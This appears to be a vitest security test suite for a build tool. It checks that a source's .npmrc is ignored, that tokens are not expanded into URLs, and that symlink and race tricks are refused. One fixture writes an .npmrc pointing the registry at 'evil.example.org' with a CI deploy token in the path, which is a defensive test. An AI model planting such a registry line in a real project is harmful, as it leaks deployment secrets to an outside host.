import { execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import {
  cpSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeEach, expect, test } from 'vitest';
import { pinSource, readSourceTree, sourceTar } from '../../src/build/source/source-tree.ts';
import { TrialBuilder } from '../../src/verify/rebuild/trial-builder.ts';
import { findVariations } from '../../src/verify/rebuild/variations.ts';

// Issue 11, item 2: no configuration is taken from a source, and nothing of it is read through a link.

const scratch = mkdtempSync(join(tmpdir(), 'prodng-item-02-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));
let source: string;
let outside: string;
beforeEach(() => {
  source = mkdtempSync(join(scratch, 'source-'));
  outside = mkdtempSync(join(scratch, 'outside-'));
  mkdirSync(join(source, 'src'));
  writeFileSync(join(source, 'README'), 'harmless text\n');
  writeFileSync(join(source, 'src/key'), 'harmless text\n');
  writeFileSync(join(outside, 'key'), 'a secret line\n');
});

const token = 'very-secret-token';

/** Where a build would fetch a tarball from, when it is started in the source. */
function places(home: string): string[] {
  const run = resolve('scripts/run-ts.mjs');
  const program = resolve('test/security/programs/ask-npm-registry.ts');
  const env = { PATH: process.env.PATH, HOME: home, CI_DEPLOY_TOKEN: token };
  return JSON.parse(execFileSync('node', [run, program], { cwd: source, env, encoding: 'utf8' }));
}

test('an .npmrc of the source is not obeyed, wherever the build is started', () => {
  const home = mkdtempSync(join(scratch, 'home-'));
  writeFileSync(
    join(source, '.npmrc'),
    '@team:registry=http://evil.example.org/${CI_DEPLOY_TOKEN}/\nregistry=http://evil.example.org/\n',
  );
  writeFileSync(join(source, 'package.json'), '{"name":"web","version":"1.0.0"}');
  writeFileSync(join(home, '.npmrc'), '@team:registry=http://packages.example.org/npm/\n');
  expect(places(home)).toEqual(['http://packages.example.org/npm/@team/greet/-/greet-1.0.3.tgz']);
});

test("a variable in the user's own .npmrc is not expanded into a URL", () => {
  const home = mkdtempSync(join(scratch, 'home-'));
  writeFileSync(join(home, '.npmrc'), '@team:registry=http://packages.example.org/${CI_DEPLOY_TOKEN}/\n');
  expect(JSON.stringify(places(home))).not.toContain(token);
});

async function read(tree: Awaited<ReturnType<typeof readSourceTree>>): Promise<string> {
  const chunks: Uint8Array[] = [];
  for await (const chunk of sourceTar(tree)) chunks.push(chunk);
  return Buffer.concat(chunks).toString('latin1');
}

test.each(['README', 'src'])('%s becomes a link between listing and reading', async (name) => {
  const tree = await readSourceTree(source, 0, []);
  renameSync(join(source, name), join(scratch, `moved-${name}`));
  symlinkSync(name === 'src' ? outside : join(outside, 'key'), join(source, name));
  await expect(read(tree)).rejects.toMatchObject({
    code: 'IO',
    message: expect.stringContaining('is a symbolic link, or behind one'),
  });
});

test('a file that is gone, or longer, says so', async () => {
  const tree = await readSourceTree(source, 0, []);
  writeFileSync(join(source, 'README'), 'longer than it was before\n');
  await expect(read(tree)).rejects.toMatchObject({ message: expect.stringContaining('changed while') });
  rmSync(join(source, 'README'));
  await expect(read(tree)).rejects.toMatchObject({ message: expect.stringContaining('changed while') });
});

test('what is built has the bytes that the provenance names, or the build fails', async () => {
  const { tree, sha256 } = await pinSource(await readSourceTree(source, 0, []));
  expect(
    createHash('sha256')
      .update(await read(tree), 'latin1')
      .digest('hex'),
  ).toBe(sha256);
  writeFileSync(join(source, 'README'), 'harmless_text\n');
  await expect(read(tree)).rejects.toMatchObject({ message: expect.stringContaining('changed while') });
});

test('a rebuild writes its lock through no link of the source', async () => {
  const debian = join(source, 'debian');
  mkdirSync(debian);
  symlinkSync(join(outside, 'key'), join(debian, 'jail.lock'));
  for (const name of ['.git', 'debian/web']) symlinkSync(outside, join(source, name));
  for (const name of ['control', 'changelog', 'rules'])
    cpSync(join('templates/static-binary/files/debian', name), join(debian, name));
  const work = mkdtempSync(join(scratch, 'work-'));
  const what = { source, name: 'web', version: '1', architecture: 'amd64', lockText: 'overwritten\n' };
  const paths = { cache: work, state: work, run: work };
  const builder = new TrialBuilder(what, await findVariations(), { paths, archives: [] }, work);
  await expect(builder.build([])).rejects.toMatchObject({ code: expect.any(String) });
  expect(readFileSync(join(work, 'source/debian/jail.lock'), 'utf8')).toBe('overwritten\n');
  expect(readFileSync(join(outside, 'key'), 'utf8')).toBe('a secret line\n');
});

test('names of a folder are not listed through a link that takes its place', async () => {
  mkdirSync(join(source, 'flip'));
  symlinkSync(outside, join(source, 'link'));
  const run = resolve('scripts/run-ts.mjs');
  const program = resolve('test/security/programs/flip.ts');
  const flipper = spawn('node', [run, program, source, 'flip', 'link'], {
    stdio: ['pipe', 'pipe', 'inherit'],
  });
  try {
    await once(flipper.stdout, 'data');
    const seen = new Set<string>();
    for (let round = 0; round < 500; round++) {
      const tree = await readSourceTree(source, 0, []).catch(() => undefined);
      for (const { entry } of tree?.entries ?? []) seen.add(`${entry.type} ${entry.path}`);
    }
    expect([...seen].filter((each) => each.endsWith('/key'))).toEqual(['file src/key']);
    expect(seen, 'both were seen under the name').toContain('directory flip');
    expect(seen).toContain('symlink flip');
  } finally {
    flipper.stdin.end();
    await once(flipper, 'exit');
  }
});
